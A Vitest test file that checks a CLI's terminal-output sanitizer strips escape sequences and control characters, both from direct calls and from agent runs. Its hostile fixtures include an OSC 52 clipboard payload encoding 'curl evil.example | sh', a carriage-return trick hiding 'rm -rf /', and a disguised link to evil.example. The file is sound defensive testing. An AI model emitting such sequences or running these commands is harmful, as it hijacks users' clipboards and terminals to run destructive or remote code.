import { describe, expect, it } from 'vitest';
import { stripVTControlCharacters } from 'node:util';
import { terminalText } from '../runtime/services/terminal-text.js';
import { terminate, writeLoopFixture } from './support/loop-fixture.js';
import { runCli } from './support/run-cli.js';
import { startScriptedModelServer, type ScriptedTurn } from './support/scripted-model-server.js';

/** Text a hostile page, tool or model might send to the user's terminal. */
const hostile = {
  osc52Clipboard: 'copy\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007me',
  osc52WithStringTerminator: 'copy\u001b]52;c;aGVsbG8+Lw==\u001b\\me',
  osc8Link: 'see \u001b]8;;https://evil.example/\u001b\\the docs\u001b]8;;\u001b\\ here',
  clearScreen: 'before\u001b[2J\u001b[Hafter',
  carriageReturn: 'rm -rf /\rls -l   ',
  backspace: 'safe\b\b\b\bevil',
  bell: 'ding\u0007dong',
  deviceControlString: 'a\u001bPq#0;2;0;0;0#0~~@@vv@@~~$\u001b\\b',
  eightBitCsi: 'a\u009b2Jb',
  eightBitOsc: 'a\u009d52;c;Y3VybA==\u0007b',
  eightBitOscStringTerminator: 'a\u009d8;;https://evil.example/\u009cb',
  eightBitDcs: 'a\u0090payload\u009cb',
  delete: 'a\u007fb',
  nul: 'a\u0000b',
};

/** No C0 control but newline and tab, no DEL, no C1 control. */
const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('terminalText', () => {
  it('removes every escape sequence and control character, and the payload of control strings', () => {
    for (const [name, text] of Object.entries(hostile)) {
      const shown = terminalText(text);
      expect({ name, shown, clean: !controls.test(shown) }).toMatchObject({ name, clean: true });
      expect(shown, name).not.toMatch(/52;c;|evil\.example|Y3Vyb|payload/);
    }
    expect(terminalText(hostile.osc8Link)).toBe('see the docs here');
    expect(terminalText(hostile.clearScreen)).toBe('beforeafter');
    expect(terminalText(hostile.carriageReturn)).toBe('rm -rf /ls -l   ');
    expect(terminalText(hostile.eightBitOsc)).toBe('ab');
  });

  it('keeps newlines, tabs and printable text of every script', () => {
    const text = 'line one\n\tindented — café 東京 🚀\nline three';
    expect(terminalText(text)).toBe(text);
  });

  it('does what Node’s stripVTControlCharacters alone does not', () => {
    // The reason for the last pass: these survive the usual stripping.
    for (const text of [hostile.carriageReturn, hostile.backspace, hostile.bell, hostile.eightBitOsc]) {
      expect(controls.test(stripVTControlCharacters(text))).toBe(true);
      expect(controls.test(terminalText(text))).toBe(false);
    }
  });
});

describe('terminal sinks of the CLI', () => {
  const payload = Object.values(hostile).join(' | ');

  async function runWith(turns: ScriptedTurn[], args: string[], fixture: string) {
    const server = await startScriptedModelServer({ turns });
    try {
      return await runCli(args, { cwd: fixture, env: { OPENAI_BASE_URL: server.baseUrl, OPENAI_API_KEY: 'test-key', MANUS_MODEL: 'scripted-model' } });
    } finally {
      await server.close();
    }
  }

  it('shows tool output and the answer without control characters, in progress, the printed answer and runs show; --json keeps the text', async () => {
    const fixture = writeLoopFixture();
    const turns: ScriptedTurn[] = [
      { content: `thinking ${hostile.clearScreen}`, toolCalls: [{ name: 'echo', arguments: { text: payload } }] },
      terminate(`answer ${payload}\nsecond line\twith a tab`),
    ];
    const run = await runWith(turns, ['run', 'recipe.yaml'], fixture);
    expect(run.exitCode, run.stderr).toBe(0);
    expect(run.stdout).toContain('second line\twith a tab');
    expect(run.stdout).toMatch(/^answer copyme/);
    for (const output of [run.stdout, run.stderr]) expect(controls.test(output)).toBe(false);
    expect(run.stderr).toContain('echo(');

    const listing = await runCli(['runs'], { cwd: fixture });
    const id = (await runCli(['runs', '--json'], { cwd: fixture })).json[0].id as string;
    const shown = await runCli(['runs', id, '--full'], { cwd: fixture });
    expect(shown.exitCode, shown.stderr).toBe(0);
    expect(shown.stdout).toContain('answer copyme');
    for (const output of [listing.stdout, shown.stdout, shown.stderr]) expect(controls.test(output)).toBe(false);

    const json = await runWith([{ toolCalls: [{ name: 'echo', arguments: { text: payload } }] }, terminate(`answer ${payload}`)], ['run', 'recipe.yaml', '--json'], fixture);
    expect(json.json.answer).toBe(`answer ${payload}`);
  });

  it('shows a failed run’s answer without control characters', async () => {
    const fixture = writeLoopFixture();
    const run = await runWith([terminate(`failed ${payload}`, 'failure')], ['run', 'recipe.yaml'], fixture);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toContain('failed copyme');
    expect(controls.test(run.stderr)).toBe(false);
  });
});
